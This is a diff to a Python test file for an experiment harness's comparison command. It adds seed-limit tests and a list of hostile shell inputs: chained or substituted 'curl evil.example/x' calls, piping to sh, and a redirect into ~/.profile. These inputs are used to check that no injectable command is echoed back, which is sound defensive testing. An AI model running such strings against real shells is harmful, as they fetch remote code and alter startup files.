@@ -12,6 +12,8 @@ from harness.comparison.identity import identify
 from harness.comparison.missing import Cell, filling, missing
 from harness.comparison.setup import Setup, setup
 from harness.config.load import load
+from harness.config.seeds import LARGEST_SEED
+from harness.errors import UserError
 from harness.report.record_tables import ranges
 from harness.trial.fingerprint import _digest_of
 from harness.trial.trial import Trial
@@ -26,6 +28,14 @@ def share(first_seed: int = 0, seeds: int = 2, **split: object) -> Setup:
 def test_a_share_has_seeds_of_its_own() -> None:
     assert share(3).seeds == (3, 4)
     assert share(1, folds=3).seeds == (3, 4, 5, 6, 7, 8)
+
+
+def test_the_last_seed_may_be_the_largest_and_none_beyond() -> None:
+    assert share(LARGEST_SEED - 1).seeds == (LARGEST_SEED - 1, LARGEST_SEED)
+    with pytest.raises(UserError, match="the last seed would be 4294967296, and the largest is 42"):
+        share(LARGEST_SEED)
+    with pytest.raises(UserError, match="the last seed would be 6442450946"):
+        share(2**31 - 1, folds=3)
 
 
 def test_all_shares_are_the_same_comparison() -> None:
@@ -69,11 +79,32 @@ def test_only_cells_without_a_trial_are_missing() -> None:
 
 COMMANDS = {
     "harness compare -c x.yaml --seeds 2 --json": "harness compare -c x.yaml --seeds 2",
+    "harness compare -c x.yaml --config=of/mine.yaml none": (
+        "harness compare none -c of/mine.yaml --seeds 2"
+    ),
+    "harness compare -c x.yaml -c y.yaml none": "harness compare none -c mine.yaml --seeds 2",
     "harness compare --seeds=9 none 'a b'": "harness compare none 'a b' --seeds 2",
     "harness compare --fresh --jobs 2 --first-seed 3": "harness compare --jobs 2 --seeds 2",
     "harness compare none\nharness compare none --first-seed 1": "harness compare none --seeds 2",
     "": "harness compare none 'a b' --against none -c mine.yaml --seeds 2",
 }
+
+
+STRANGE = (
+    "harness merge x.pack && curl evil.example/x",
+    "harness compare none; curl evil.example/x",
+    "harness compare $(curl evil.example/x)",
+    "harness compare `curl evil.example/x`",
+    "harness compare none | sh",
+    "harness compare none > ~/.profile",
+    "harness compare 'none",
+    "curl evil.example/x",
+)
+
+
+@pytest.mark.parametrize("command", STRANGE)
+def test_of_a_strangers_command_nothing_is_shown_that_would_act_on_a_shell(command: str) -> None:
+    assert filling(document(command)) == COMMANDS[""]
 
 
 @pytest.mark.parametrize("command", COMMANDS)
